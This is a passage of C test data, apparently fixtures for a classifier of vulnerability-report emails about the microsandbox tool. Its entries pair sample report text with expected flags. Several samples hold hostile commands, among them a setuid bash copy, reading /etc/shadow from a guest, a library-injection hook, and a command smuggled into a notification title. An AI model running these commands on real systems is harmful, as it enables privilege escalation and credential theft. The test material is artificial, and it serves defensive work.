	  "An attacker in a container could reach the host's files through the leaked descriptor, "
	  "so our auditors want to know. I am not reporting a problem, just asking.\n", 0, 0, 0 },
	{ "Hello,\n\nAn attacker in a container could reach the host's files through a leaked "
	  "descriptor, because msb does not close it before exec. I am not reporting this publicly "
	  "until you have a fix.\n", 1, 0, 0 },
	/* a request for permission before any research says there is no
	 * finding yet; "not found anything in the docs" is no such statement
	 * (blind round 22) */
	{ "Dear team,\n\nMy thesis will evaluate sandbox escape and isolation bypass attacks between "
	  "co-located tenants. I have not found anything yet; before I start, do you offer a safe harbor?\n",
	  0, 0, 0 },
	{ "Hello,\n\nI have not found anything about this in the docs, but a process in the guest can "
	  "read files on the host outside the share because the broker follows symlinks.\n", 1, 0, 0 },
	/* a complaint that says it reports no bug in the software (abuse
	 * from cloud accounts) describes nothing; a report that only is not
	 * a bug in one place still does (blind round 27) */
	{ "Hello,\n\nSandboxes on your hosted service keep attacking our web servers and mining "
	  "coins with every free account anyone signs up for. We are not reporting a vulnerability "
	  "in your product, only the abuse; please suspend those accounts.\n", 0, 0, 0 },
	{ "Hello,\n\nThe guest can read host files through the broker because it follows symlinks. "
	  "I am not reporting a bug in the SDK itself: the broker in msb is the problem.\n", 1, 0, 0 },
	/* output under a bullet of an indented list */
	{ PROSE "  * Response from step 3 (trimmed):\n\n      HTTP/2 200\n      content-type: application/json\n", 1, -1, 1 },
	{ "Namaste,\n\nagentd frame length check nahi karta, isliye guest ka koi bhi process host par "
	  "memory corrupt kar sakta hai aur shayad code bhi chala sakta hai.\n", 1, 0, 0 },
	/* short quoted terms are named, not claimed: a sales mail ranking for
	 * "sandbox escape" reports nothing; quotes beside a claim change
	 * nothing (blind round 15, #3) */
	{ "Hello team,\n\nYour site is not ranking on Google for keywords like \"sandbox escape\", "
	  "\"AI code execution\" and \u201csecure sandbox\u201d. We can fix the broken links and the "
	  "missing meta tags; our packages start at USD 299 per month.\n", 0, 0, 0 },
	{ "Hello team,\n\nThe \"--isolated\" flag is documented as \"no traffic to other sandboxes\", "
	  "but an attacker in sandbox B can still reach every port of sandbox A and read its data.\n",
	  1, 0, 0 },
	/* a secret scanner's record (gitleaks, a scanning platform) is tool
	 * output; a config line naming a rule is not (blind round 17) */
	{ PROSE "4. Evidence\nrule:     generic-api-key\nfile:     docs/quickstart.md\nline:     48\n"
	  "entropy:  3.91\n", 1, 0, 1 },
	{ PROSE "The deny rule: block-all-egress is set in the config.\n", 1, 0, 0 },
	/* round 28: a danda ends a sentence, so two Hindi sentences about the
	 * system describe it; a mail that says it reports nothing describes
	 * nothing, unless the statement goes on; Event Viewer XML and a
	 * terminal's output are logs */
	{ "नमस्ते,\n\nजब दो sandbox एक ही image से शुरू होते हैं, तो वे /var/cache निर्देशिका साझा करते हैं। "
	  "दूसरे ग्राहक का काम पहले sandbox की फ़ाइलें देख सकता है और उन्हें बदल सकता है।\n", 1, 0, 0 },
	/* (#3) the Ethiopic full stop ends an Amharic sentence as the danda
	 * does; sentences that name nothing of the system describe nothing */
	{ "ሰላም፣\n\nሁለት sandbox ከአንድ image ሲጀመሩ የ/var/cache ማውጫን ይጋራሉ። "
	  "የአንዱ ደንበኛ ኮድ የሌላውን sandbox ፋይሎች ማንበብና መቀየር ይችላል። "
	  "ብዙ ደንበኞች ባሉበት አገልግሎታችን ላይ ይህ ትልቅ አደጋ ነው ብዬ አስባለሁ።\n", 1, 0, 0 },
	{ "ሰላም፣\n\nስለ ጥሩ ስራችሁ በጣም በጣም እናመሰግናለን ብለን መጻፍ ፈለግን። "
	  "መልካም ቀን ይሁንላችሁ ሁላችሁም በዚህ ሳምንት ደግሞ። "
	  "ከተማችን ውስጥ ያሉ ተማሪዎች ሁሉ ሰላምታ ይልካሉ ብለን ደግመን እንጽፋለን።\n", 0, 0, 0 },
	{ "Hello,\n\nWe embed microsandbox in our service. Because a sandbox escape or an isolation "
	  "bypass would affect our customers directly, we would like to join a pre-disclosure list. "
	  "We are not reporting any issue at this time.\n", 0, 0, 0 },
	{ "Hello,\n\nI am not reporting a theoretical issue: an attacker in the guest can write files "
	  "on the host, because the broker follows symlinks in the share.\n", 1, 0, 0 },
	{ PROSE "Event Viewer, Security log (XML view):\n\n"
	  "<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/event\">\n"
	  "  <System>\n    <EventID>4688</EventID>\n  </System>\n</Event>\n", 1, -1, 1 },
	{ PROSE "Alice's terminal:\n\n  [msb] sandbox build removed\n  DEPLOY_TOKEN=dummy-77\n", 1, -1, 1 },
	/* round 30: a script quoted over several lines (`sh -c '`) is part of
	 * its command, not its output; output after the quote closes is; a
	 * measurement table under text labels is output; plain words for
	 * what an attacker gains */
	{ PROSE "  msb run alpine -- sh -c '\n    apk add curl >/dev/null\n    curl -sk https://203.0.113.10/ && echo ip-ok\n  '\n", 1, 1, 0 },
	{ PROSE "  msb run alpine -- sh -c '\n    cat /etc/hostname\n  '\n  sbx-a\n", 1, 1, 1 },
	{ PROSE "  condition          n     median   p5\n  B read the file    1003  8.7 us   7.9 us\n"
	  "  B did not read     997   411 us   362 us\n", 1, -1, 1 },
	/* (1443) a measurement table of two columns is output when its cells
	 * are plainly measured (counts of three digits or more, thousands
	 * grouped, values with a unit); two release numbers per row are not */
	{ PROSE "Write latency per page state, ns:\n\n  state              mean     max\n"
	  "  shared page       11,204   15,877\n  private page         298      512\n", 1, -1, 1 },
	{ PROSE "Time to first byte:\n\n  warm cache     1.8 ms    2.4 ms\n  cold cache    14.2 ms   19.9 ms\n", 1, -1, 1 },
	{ PROSE "Our machines:\n\n  build-01     22.04     0.10.6\n  build-02     24.04     0.10.7\n", 1, -1, 0 },
	/* (1417) looking at how a binary is signed or linked (codesign -d,
	 * otool -L, ldd) is a review's evidence, no reproduction; re-signing
	 * the binary in an attack still is one */
	{ PROSE "$ codesign -dvvv /Applications/Msb.app/Contents/MacOS/msb-vmm 2>&1 | grep flags\n"
	  "CodeDirectory v=20500 size=9012 flags=0x10000(runtime) hashes=270+7 location=embedded\n"
	  "$ otool -L /Applications/Msb.app/Contents/MacOS/msb-vmm\n"
	  "\t/usr/lib/libSystem.B.dylib (compatibility version 1.0.0)\n", 1, 0, 1 },
	{ PROSE "$ ldd /usr/bin/msb-vmm | grep krun\n\tlibkrun.so.1 => /usr/lib/libkrun.so.1 (0x00007f1c2a000000)\n", 1, 0, -1 },
	{ PROSE "$ cp /usr/local/bin/msb-vmm /tmp/x\n$ codesign -f -s - /tmp/x\n"
	  "$ DYLD_INSERT_LIBRARIES=/tmp/hook.dylib /tmp/x --run-guest\n", 1, 1, -1 },
	/* (1585) Windows' look at a signature (Get-AuthenticodeSignature,
	 * signtool verify, sigcheck) is evidence too; signing one is not */
	{ PROSE "PS C:\\Temp> Get-AuthenticodeSignature C:\\Tools\\msb-setup.exe | Select Status\n\n"
	  "Status\n------\nNotSigned\n\n"
	  "C:\\Temp> signtool verify /pa /v C:\\Tools\\msb.exe\n"
	  "SignTool Error: No signature found.\n", 1, 0, 1 },
	{ PROSE "PS C:\\lab> Set-AuthenticodeSignature .\\evil.ps1 -Certificate $cert\n"
	  "PS C:\\lab> msb run --image alpine -- sh /mnt/evil.ps1\n", 1, 1, -1 },
	{ "Hi,\n\nThe console never checks that the account accepting an invitation is the one it was "
	  "sent to, so whoever gets the link joins with the invited role and can start, read and delete "
	  "everything we have.\n", 1, 0, 0 },
	/* round 38: an unindented JSON object one blank line below an output
	 * heading is output; below a sentence that is no heading it is not
	 * (a config shown as the setup); printed environment under a line
	 * ending on "showed ... :" */
	{ PROSE "Response of the second page (trimmed):\n\n{\n  \"data\": [],\n  \"has_more\": true\n}\n", 1, -1, 1 },
	{ PROSE "We start every sandbox with this config:\n\n{\n  \"image\": \"alpine\",\n  \"network\": \"none\"\n}\n", 1, -1, 0 },
	{ PROSE "this is what the cell printing os.environ showed in her sandbox:\n\n  HOME=/root\n  PGPASSWORD=dummy\n", 1, -1, 1 },
	/* round 39: browser steps run together after "Steps:" (not two actions
	 * in passing); a dependency alert's path with versions is tool output;
	 * a published image replaced under its tag that everyone pulling gets */
	{ PROSE "Steps: log in as a Billing member, go to Sandboxes, click on a sandbox, click Terminal.\n", 1, 1, 0 },
	{ PROSE "Steps: I log in and go to Sandboxes like every day.\n", 1, 0, 0 },
	/* numbered steps run together in one paragraph after a steps heading,
	 * whatever each item starts with (1380); not a fix's steps, nor an
	 * impact list, nor a version number in the text */
	{ PROSE "To reproduce: (1) have one commit accepted upstream; (2) fork and change the test "
	  "script to write a marker file in the home directory; (3) push again a week later and read "
	  "the marker back.\n", 1, 1, 0 },
	{ PROSE "Pasos: 1) una cuenta sin permisos crea el sandbox; 2) otra cuenta lo abre y ve los "
	  "ficheros del primero.\n", 1, 1, 0 },
	{ PROSE "Schritte: (1) Volume schreibgesch\u00fctzt einh\u00e4ngen, (2) im Gast eine Datei "
	  "darauf l\u00f6schen.\n", 1, 1, 0 },
	{ PROSE "Suggested steps: (1) make the runners ephemeral; (2) require approval for every "
	  "outside contributor.\n", 1, 0, 0 },
	{ PROSE "Impact: (1) code runs on the release builder; (2) a signed release can be replaced.\n",
	  1, 0, 0 },
	{ PROSE "Steps: 1. upgrade to msb 0.2. and nothing else changed.\n", 1, 0, 0 },
	/* (#3) the writer's own numbered run after "we:" or "what I did:";
	 * a plan or a wish after "we would:" is none */
	{ PROSE "On a throwaway fork we: 1. set a fake registry token as a secret; 2. opened a "
	  "draft change from a second user; 3. saw the job print the token.\n", 1, 1, 0 },
	{ PROSE "What I did: (1) mounted the share read-only, (2) deleted a file on it from the guest.\n",
	  1, 1, 0 },
	{ PROSE "As a fix we would: (1) pin the runner image; (2) drop the registry token.\n", 1, 0, 0 },
	/* (#3) the writer's own actions told in one run of prose, the last after
	 * "then": a reproduction; tries and looks around are none */
	{ PROSE "What we did: created an org key, revoked it in the console, then called the API with it and "
	  "still got a list back.\n", 1, 1, 0 },
	{ PROSE "I uploaded a file to the share, renamed it to a link, then restarted the sandbox.\n", 1, 1, 0 },
	{ PROSE "I tried a few things, looked around, then gave up for the day.\n", 1, 0, 0 },
	{ PROSE "  tar  <6.2.1\n  Dependency path: microsandbox@0.8.2 > tar@6.1.15\n", 1, 0, 1 },
	{ PROSE "We depend on microsandbox 0.8.2 and tar 6.1.15.\n", 1, 0, 0 },
	{ "Hey,\n\nafter I pulled your image this morning my laptop fan went crazy. Inside the container "
	  "there is a process that isn't msb. Looks like someone pushed a new image to the tag, so everyone "
	  "pulling latest gets it.\n", 1, 0, 0 },
	/* round 37: `id` output under a heading and a blank line; a sentence
	 * ending on "which prints" over a block; an msb command in parentheses
	 * in a bullet; "the command:" before an msb command (not before an
	 * environment query); "If you want to see it:" over numbered steps;
	 * plain words for what others can see; questions before adopting the
	 * project describe nothing */
	/* round 45: steps under "How I checked it:"; a proxy's flow lines; a
	 * pasted scanner report (not its URLs: no PoC) */
	{ PROSE "How I checked it:\n\n1. Build a tarball with another binary.\n2. Serve it from a local directory.\n"
	  "3. Run the installer against it.\n", 1, 1, 0 },
	{ PROSE "  127.0.0.1:51722: GET https://msb.example:7443/v1/sandboxes/sbx-1/exec/ws\n"
	  "      Upgrade: websocket\n   << 101 Switching Protocols 0b\n", 1, -1, 1 },
	{ PROSE "ZAP Scanning Report\n\nMedium: Missing Anti-clickjacking Header\nURL: https://console.example/login\n"
	  "CWE Id: 1021\nWASC Id: 15\nPlugin Id: 10020\n", 1, 0, 1 },
	{ PROSE "What the last step printed:\n\nuid=1007(kuba) gid=1007(kuba) euid=0(root) groups=1007(kuba)\n", 1, -1, 1 },
	/* (1576) ping's reply lines are output; a sentence about ping is not */
	{ PROSE "From the second sandbox:\n\nPING 10.0.2.15 (10.0.2.15) 56(84) bytes of data.\n64 bytes from 10.0.2.15: icmp_seq=1 ttl=64 time=0.211 ms\n", 1, -1, 1 },
	{ PROSE "It answers ping: 64 bytes from the other sandbox each time, in under a millisecond.\n", 1, -1, 0 },
	{ PROSE "    print(sb.run(\"sh -c 'echo $PAY_KEY'\").stdout)\n\nwhich prints\n\n    pk_live_0000DUMMY\n", 1, -1, 1 },
	/* (#3) what came back, the block completing the sentence; the program
	 * said to have said it over its output; not what did not come back,
	 * nor what its docs say */
	{ PROSE "    msb exec w -- cat /run/token\n\nThe token that comes back is\n\n    \"tok_live_0000DUMMY\",\n", 1, -1, 1 },
	{ PROSE "    msb exec w -- cat /run/token\n\nThe token that never comes back is\n\n    \"tok_live_0000DUMMY\",\n", 1, -1, 0 },
	{ PROSE "    pip install msb-helper-tools\n\nBut pip said the name is not on the index:\n\n"
	  "    ERROR: No matching distribution found for msb-helper-tools\n", 1, -1, 1 },
	{ PROSE "    pip install msb-helper-tools\n\nThe installer says in its docs to run:\n\n"
	  "    msb-helper-tools --init\n", 1, -1, 0 },
	/* (#3) a program's own log line alone in its block is what it
	 * printed, not a command typed though it starts with the program's
	 * name */
	{ PROSE "    npx create-msb-demo demo\n\nIt stopped right away:\n\n"
	  "    npm error 404 Not Found - GET https://registry.npmjs.org/create-msb-demo - Not found\n", 1, -1, 1 },
	/* (#3) a section heading by its form a blank line above the one
	 * sentence over the steps; not a heading of another section */
	{ PROSE "## Reproduction\n\nAll of this was done on a throwaway org.\n\n1. A second account is needed.\n"
	  "2. The invite link goes to it.\n3. It joins as an Admin.\n", 1, 1, -1 },
	{ PROSE "## Background\n\nAll of this was seen on a throwaway org.\n\n1. A second account exists.\n"
	  "2. The invite link goes to it.\n3. It joins as an Admin.\n", 1, 0, -1 },
	{ PROSE "- Student 2 got his copy (msb snapshot restore clean-nov --name s2) and found her files.\n", 1, 1, 0 },
	{ PROSE "- I always start it (msb run alpine) first.\n", 1, 0, 0 },
	{ PROSE "the command: msb run --memory 2g python:3.12 -- python load.py\n", 1, 1, 0 },
	{ PROSE "the command: msb --version\n", 1, 0, 0 },
	{ PROSE "If you want to see it:\n1. Log in to the dashboard as a normal user.\n2. Open Sandboxes.\n"
	  "3. Change the number after /orgs/ by one and press enter.\n", 1, 1, 0 },
	/* (#3) steps under the writer saying he could do it again ("We were
	 * able to reproduce it ...:"), and web-console steps that start with
	 * inviting a member; not under a failed attempt, not a list of advice */
	{ PROSE "We were able to reproduce it on a fresh organisation:\n\n1. Create a member with the Auditor role.\n"
	  "2. As that member, go to Settings > Keys.\n3. The Revoke button works and the key is gone.\n", 1, 1, -1 },
	{ PROSE "I reproduced it with a second account like this:\n\n1. A Billing member is needed.\n"
	  "2. The Keys page shows a Revoke button to them.\n3. Pressing it removes the key.\n", 1, 1, -1 },
	{ PROSE "I wasn't able to reproduce it on a fresh organisation:\n\n1. The role list looked right.\n"
	  "2. The Revoke button was greyed out.\n3. Nothing changed.\n", 1, 0, -1 },
	{ PROSE "Here is what happens.\n\n1. Invite a second account as a Billing member.\n2. Sign in as that account.\n"
	  "3. Open the API keys page and click Create.\n4. A new admin key is listed.\n", 1, 1, -1 },
	{ PROSE "What we would change.\n\n1. Invite reviewers from the security team early.\n2. Document the Viewer role.\n"
	  "3. Audit the role checks.\n", 1, 0, -1 },
	/* (#3) steps under the writer saying he checked it and what he found,
	 * the last item its result; not under a check that found nothing */
	{ PROSE "I checked, and it happens with every invite I sent:\n\n1. Sign in and open Members.\n"
	  "2. Send the invite link to any outside address.\n3. The outsider joins as an Admin.\n", 1, 1, -1 },
	{ PROSE "We tested it and it does not happen on the new console:\n\n1. The Members page loads.\n"
	  "2. The invite link expires.\n3. Outsiders are refused.\n", 1, 0, -1 },
	/* round 46: numbered actions at the keyboard with no heading over
	 * them are the steps; a numbered list of recommendations is not; the
	 * number at the end of an address changed to another one */
	{ PROSE "He found this on our family PC.\n\n1. Log in as a standard user\n"
	  "2. Right-click the icon by the clock > Open logs folder\n"
	  "3. In that window's address bar type cmd and press Enter\n"
	  "4. Log out and in again, the account is now an admin\n", 1, 1, 0 },
	/* a numbered form with no heading over it does not hide the steps
	 * under one of its own items ("4. Steps to reproduce:") */
	{ PROSE "1. Product version: 0.8.0\n\n2. Host platform: macOS 14.6.1\n\n"
	  "3. Steps to reproduce:\n   a. msb run --name warm alpine -- sh -c 'echo k > /tmp/k; rm /tmp/k'\n"
	  "   b. msb snapshot create warm --name snap\n   c. msb snapshot restore snap --name other\n\n"
	  "4. Logs: none kept, step c printed the key.\n\n5. Credit: no, thank you.\n", 1, 1, -1 },
	/* (#3) numbered steps that are shell commands typed as the steps
	 * themselves, with a physical step beside them, under a lead line
	 * that is no reproduction heading */
	{ PROSE "I checked this on an old machine:\n\n1. Boot an Ubuntu installer stick.\n"
	  "2. sudo cryptsetup status /dev/sda2\n3. cp /media/disk/home/ana/.msb/token.json /tmp/\n"
	  "4. cat /tmp/token.json\n", 1, 1, 0 },
	{ PROSE "Here is what happens on my desktop:\n\n1. sudo chmod 777 /var/run/msbd.sock\n"
	  "2. python3 /tmp/talk.py /var/run/msbd.sock\n3. Watch the daemon start a root shell.\n", 1, 1, 0 },
	/* ... the same commands listed as a fix are no run of the writer's;
	 * nor are queries of the environment alone */
	{ PROSE "Suggested fix for the packagers:\n\n1. sudo chown root:root /usr/lib/msb\n"
	  "2. sudo chmod 755 /usr/lib/msb\n3. chmod 644 /usr/lib/msb/*.so\n", 1, 0, 0 },
	{ PROSE "My machine:\n\n1. uname -r\n2. sw_vers -productVersion\n3. ls /usr/local/lib\n", 1, 0, 0 },
	{ PROSE "What I would change:\n\n1. Validate the path before use.\n2. Drop the privileges of the service.\n"
	  "3. Document the behaviour.\n", 1, 0, 0 },
	{ PROSE "The address ends in /billing/invoices/10482. If I change that number to 10481 I get "
	  "a different company's invoice.\n", 1, 1, 0 },
	{ "Hello,\n\nToday I changed the number in the address and it showed me a list of sandboxes that "
	  "are not ours, from another company. I expect they can see ours the same way.\n", 1, 0, 0 },
	{ "Hello,\n\nOur IT teacher wants to use microsandbox in lessons so that pupils can run their own "
	  "programs safely, not on the school network, and the board asked me to find out a bit more "
	  "before we agree. Has it had an independent review?\n", 0, 0, 0 },
	/* round 35: a question about an advisory's fix that says it has
	 * nothing new to report describes nothing, though it names an escape */
	{ "Hello,\n\nYour recent advisory about a guest escaping to the host through a shared volume "
	  "says the fix is only in 0.8.4. Is there any plan to backport that fix to 0.7.x?\n\n"
	  "We have nothing new to report, we only want to plan our upgrade.\n", 0, 0, 0 },
	/* round 34: an output heading hard-wrapped over two lines is read
	 * whole (and its negation with it); one whole `ls -l` line is pasted
	 * output; "which gave:" announces output; a mail withdrawing an
	 * earlier one because nothing was wrong describes nothing */
	{ PROSE "Here is what the check script printed on my\ncomputer:\n\n    by name:      blocked\n"
	  "    by address:   reached\n", 1, -1, 1 },
	{ PROSE "I did not save what the check script printed on my\nscreen:\n\n    by name:      blocked\n"
	  "    by address:   reached\n", 1, -1, 0 },
	{ PROSE "The cache file is writable by every sandbox:\n\n"
	  "  -rw-rw-rw- 1 root root 64928 Nov 24 10:12 requests-2.32.3-py3-none-any.whl\n", 1, -1, 1 },
	{ PROSE "I listed the archive, which gave:\n\n      412  2026-11-20 03:14   init.pth\n", 1, -1, 1 },
	/* (#3) what a command printed, its lead-in wrapped and naming the
	 * file it printed from; a shell loop on one line is a step (round
	 * 236) */
	{ PROSE "To reproduce:\n\n$ pytest test_leak.py --junitxml=report.xml\n$ grep -A2 'msb.sandbox.config' report.xml\n\n"
	  "This is what the grep printed on the report.xml artifact of my own submission\n"
	  "repo (I replaced the real keys with x's before pasting):\n\n"
	  "    <property name=\"msb.sandbox.config\" value=\"{'secrets': {'K': 'sk-xxxx'}}\" />\n"
	  "    <property name=\"msb.sandbox.id\" value=\"sb-7f3c21d9\" />\n", -1, -1, 1 },
	{ PROSE "for i in 1 2 3; do echo virtio3 > /sys/bus/virtio/drivers/virtio_balloon/unbind; done\n", -1, 1, -1 },
	{ PROSE "for i in my tests I did the same; it is done now.\n", -1, 0, -1 },
	/* (#3) a printed object's members under a sentence that ends in the
	 * command that printed them, indented or not; code under it is no
	 * output (round 234) */
	{ PROSE "as me against my colleagues box: msb inspect ci-deploy-jan | grep -A3 '\"secrets\"'\n"
	  "    \"secrets\": {\n      \"AWS_SECRET_ACCESS_KEY\": \"DUMMYa1b2c3\",\n      \"TOKEN\": \"DUMMY0000\"\n    },\n",
	  -1, -1, 1 },
	{ PROSE "as me against my colleagues box: msb inspect ci-deploy-jan | grep -A3 '\"secrets\"'\n"
	  "\"secrets\": {\n  \"AWS_SECRET_ACCESS_KEY\": \"DUMMYa1b2c3\",\n  \"TOKEN\": \"DUMMY0000\"\n},\n", -1, -1, 1 },
	{ PROSE "then i wrote the helper and ran it: python3 helper.py --target ci-deploy-jan\n"
	  "    import os\n    os.system('id')\n", -1, -1, 0 },
	/* (#3) `unzip -l`'s rows are output (round 231) */
	{ PROSE "Archive:  msb-diag-7Qk2mWx9.zip\n  Length      Date    Time    Name\n---------  ---------- -----   ----\n"
	  "    18211  12-27-2026 10:41   doctor.txt\n      214  12-27-2026 10:41   config/credentials.toml\n", -1, -1, 1 },
	/* (#3) the guest's own msb helper run in the middle of a sentence
	 * (round 240) */
	{ PROSE "inside any sandbox started with --notify i ran msb-notify --title 'build done\" & (do shell script "
	  "\"id > /tmp/g\") & \"' --body hi and then on the mac cat /tmp/g\n", -1, 1, -1 },
	{ "Hi,\n\nOn Tuesday I wrote that my sandbox could still reach the internet even though "
	  "networking was off. Please ignore that email, it was my mistake: my own command switched "
	  "networking back on, so an attacker gains nothing.\n", 0, 0, 0 },
	/* round 40: a mail that says it asks rather than reports may say so
	 * in a question, which the prose drops: [description.not] reads the
	 * body as written; a cmd.exe command with a Windows path is a PoC */
	{ "Hello,\n\nI maintain the microsandbox package in a Linux distribution. Could our security "
	  "team and I be added to your pre-notification list before you publish advisories? That would "
	  "let us have fixed packages ready on the disclosure date: last year a sandbox escape fix "
	  "reached us only on that day, so attackers could exploit unpatched packages for a week.\n", 0, 0, 0 },
	{ PROSE "Anyone at the desk can just type\n\n  type %USERPROFILE%\\.microsandbox\\credentials\n\n"
	  "in a command prompt.\n", 1, 1, 0 },
	/* a command run, written inside a sentence of a long unwrapped line:
	 * in backticks, in quotes, or after a colon to the sentence's end;
	 * a flag named in passing or a sentence that starts with a command
	 * is none */
	{ PROSE "For the school lab I started the guest with `msb run --network none alpine -- wget -qO- "
	  "http://198.51.100.7/` and the page still came back, so the pupils' code is online.\n", 1, 1, 0 },
	{ PROSE "Our handbook tells the pupils to use \xe2\x80\x9cmsb exec lab1 -- cat /srv/share/key.txt\xe2\x80\x9d "
	  "and it shows the teacher's key too.\n", 1, 1, 0 },
	{ PROSE "The gateway is easy to fool: msb exec build -- sh -c \"wget -qO- http://198.51.100.7/\" prints "
	  "the page. We use msb every day for marking.\n", 1, 1, 0 },
	{ PROSE "We use msb every day and `msb run --no-net` is in our handbook for the pupils.\n", 1, 0, 0 },
	{ PROSE "What goes wrong: msb run --network none still reaches other hosts on the school LAN.\n", 1, 0, 0 },
	{ PROSE "Our scanner flags urllib3 and `pipdeptree --reverse --packages urllib3 --warn silence` says "
	  "the SDK brings it in.\n", 1, 0, 0 },
	/* PowerShell and cmd.exe print a blank line between the command and
	 * its output; a sentence below the blank is no output (a look at a
	 * signature is no PoC, 1585) */
	{ PROSE "PS C:\\Users\\kim\\Downloads> Get-AuthenticodeSignature .\\msb.exe\n\n"
	  "SignerCertificate      Status        Path\n-----------------      ------        ----\n"
	  "                       NotSigned     msb.exe\n", 1, 0, 1 },
	{ PROSE "C:\\Users\\kim>icacls C:\\ProgramData\\msb\n\nC:\\ProgramData\\msb Everyone:(OI)(CI)(F)\n", 1, 1, 1 },
	{ PROSE "PS C:\\Users\\kim> msb run --volume C:\\:/host alpine\n\n"
	  "After that the guest could list my whole drive.\n", 1, 1, 0 },
	/* round 42: a zsh prompt with the directory after a space (macOS's
	 * default); installing one pinned release into an empty folder */
	{ PROSE "leo@family-imac ~ % msb run --volume /Library/LaunchDaemons:/mnt alpine -- true\n"
	  "leo@family-imac ~ % ls -ld /Library/LaunchDaemons\n", 1, 1, -1 },
	{ PROSE "When I ran npm install microsandbox@0.8.6 in an empty folder, the install printed a download line.\n", 1, 1, -1 },
	{ PROSE "I installed it with npm install microsandbox@0.8.6 for our website last spring.\n", 1, 0, -1 },
	/* round 47: a document's numbered sections with no blank line between
	 * them (a PDF's text): the indented block under an output heading is
	 * output, though it sits in a list item; under another item it is the
	 * item's text */
	{ PROSE "1. Steps\nStart the sandbox and probe the host:\n    msb run --network none alpine -- ip -6 addr\n"
	  "2. Observed output\n    2: eth0: <BROADCAST,MULTICAST,UP> mtu 1500\n        inet6 fe80::5c3a:9dff/64 scope link\n"
	  "3. Expected behaviour\nNo interface.\n", 1, 1, 1 },
	{ PROSE "1. Steps\nStart the sandbox and probe the host:\n    msb run --network none alpine -- ip -6 addr\n"
	  "2. Expected behaviour\n    no interface at all, or one that\n    drops every packet\n", 1, 1, 0 },
	/* issue #3: what a reproduction printed, under a lead-in in any words
	 * (a line ending in a colon after a command or code), not only under
	 * the words of [logs.output-heading]; never under one that announces
	 * the environment, the docs or the impact, nor before any command */
	{ PROSE "I ran it in the guest:\n    msb exec w -- ls /data/../.ssh\nThe guest saw this:\n\n    id_ed25519\n    known_hosts\n", 1, 1, 1 },
	{ PROSE "    sb = Sandbox.create(image=\"nope\", api_key=KEY)\n\nHere's what happened:\n\n"
	  "StartError: image pull failed (api_key=msb_live_DUMMY0000, image=nope)\n", 1, -1, 1 },
	{ PROSE "    sb = Sandbox.restore(snapshot_id=\"snap-1\")\n    print(sb.fs.list(\"/tmp\"))\n\nThe call answered with:\n\n"
	  "['invoice-2026-11.pdf', 'acme-payroll.csv']\n", 1, 1, 1 },
	{ PROSE "    msb run --volume /:/host alpine -- cat /host/etc/shadow\n\nNa konsoli dostałem:\n\n    root:*:19874:0:99999:7:::\n", 1, 1, 1 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nEnvironment:\n\n    Ubuntu 24.04 LTS\n    kernel 6.8.0-49-generic\n", 1, 1, 0 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nThe docs say:\n\n    Secrets passed via env are never logged.\n", 1, 1, 0 },
	{ PROSE "    msb run --network none alpine -- ip -6 addr\n\nWhy it matters:\n\n    Anyone who can read the build log gets the key.\n", 1, 1, 0 },
	{ PROSE "What I noticed:\n\n    the share stays writable\n    after a remount\n", 1, 0, 0 },
	/* (#3) a paragraph sent as one line ends in a lead-in: only its
	 * last clause says what the colon announces, so an earlier clause's
	 * "should" leaves it one; its last clause still says so of the
	 * environment (round 224) */
	{ "hey, found this testing egress rules. i start a box with msb run --name t1 --net-allow-host pypi.example "
	  "ubuntu:24.04 sleep infinity and everything except pypi is blocked like it should be, BUT if the guest runs "
	  "reboot the allow list is gone, curl -sI https://exfil.example from the same box right after:\n"
	  "HTTP/2 200\nserver: nginx\ncontent-type: text/html\nso any code in there lifts its own egress restriction.\n",
	  1, 1, 1 },
	{ "hey, found this testing egress rules. i start a box with msb run --name t1 --net-allow-host pypi.example "
	  "ubuntu:24.04 sleep infinity and everything except pypi is blocked like it should be, and this is the "
	  "config of the host right after:\n"
	  "HTTP/2 200\nserver: nginx\ncontent-type: text/html\nso any code in there lifts its own egress restriction.\n",
	  -1, 1, 0 },
	/* (#3) a request a capture tool caught, named in the lead-in; the
	 * output under "... and gets" (round 224) */
	{ PROSE "on the cafe wifi sudo tcpdump -A -i en0 port 80 while running a plain Sandbox.create():\n"
	  "POST /v1/sandboxes HTTP/1.1\nHost: api.example\nAuthorization: Bearer msb_live_dummy\n", -1, 1, 1 },
	{ PROSE "on the cafe wifi i typed this while running a plain Sandbox.create():\n"
	  "POST /v1/sandboxes HTTP/1.1\nHost: api.example\nAuthorization: Bearer msb_live_dummy\n", -1, 1, 0 },
	{ PROSE "msb run --rm alpine sh -c 'echo s3cr3t > /dev/shm/tok' and exits, then a new sandbox does "
	  "msb run --rm alpine cat /dev/shm/tok and gets\ns3cr3t\ntried 4 times.\n", -1, 1, 1 },
	/* (#3) a line that ends in the command its sentence ran, the
	 * managed cloud's "msb cloud run" among them: the lines under it are
	 * what it printed; not when a full stop ends the line (round 229) */
	{ PROSE "checked from a second free account w msb cloud run tpl_pub_8Hq2demo -- env | grep -i key\n"
	  "STRIPE_SECRET_KEY=sk_test_dummy00000000\nOPENAI_API_KEY=sk-dummy-0000000000\n"
	  "the publish dialog doesnt mention env at all.\n", 1, 1, 1 },
	{ PROSE "checked from a second free account w msb cloud run tpl_pub_8Hq2demo -- env | grep -i key.\n"
	  "STRIPE_SECRET_KEY=sk_test_dummy00000000\nOPENAI_API_KEY=sk-dummy-0000000000\n"
	  "the publish dialog doesnt mention env at all.\n", 1, 1, 0 },
	/* (#3) another party getting one's secrets, as chat says it, is the
	 * impact (round 229) */
	{ "msb snapshot export includes /run/msb/secrets. the values are meant to live in a tmpfs that never hits disk. "
	  "but if u snapshot a running box and export it they're in the tarball, and every sandbox restored from it "
	  "has them. we share base snapshots between teams so thats other teams getting our tokens\n", 1, -1, 0 },
	{ "we moved the base snapshots to a new registry last week and other teams getting our old tags was a mess, "
	  "so we renamed them all and it took a day.\n", 0, -1, 0 },
	/* (#3) a known command with a shell argument ending the line's last
	 * sentence, after the line's own words; not a line that is all
	 * command, nor a key given a quoted value (round 231) */
	{ PROSE "so i looked at the cat output of the dump from the same box cat ~/.npmrc\n"
	  "//registry.npmjs.org/:_authToken=npm_DUMMY0000\nso any guest writes it.\n", 1, -1, 1 },
	{ PROSE "chmod +x /usr/local/bin/tar\n`]);\n", 1, -1, 0 },
	{ PROSE "post_up = \"cp /bin/bash /var/tmp/.rb && chmod 4755 /var/tmp/.rb\"\nEOF\n", 1, -1, 0 },
	/* (#3) echo or printf writing a file by its path inside a sentence
